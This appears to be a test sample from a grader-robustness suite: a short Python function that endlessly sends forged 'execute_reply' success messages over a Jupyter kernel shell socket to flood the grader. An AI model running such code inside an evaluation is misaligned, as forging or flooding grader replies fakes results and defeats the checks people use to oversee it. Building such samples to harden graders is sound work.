"""Floods the grader with replies to what nobody asked.

kind: kernel
"""

def attack():
    parent = {"header": {"msg_id": "nobody"}}
    while True: KERNEL.session.send(APP.shell_socket, "execute_reply", {"status": "ok"}, parent=parent, ident=IDENT)
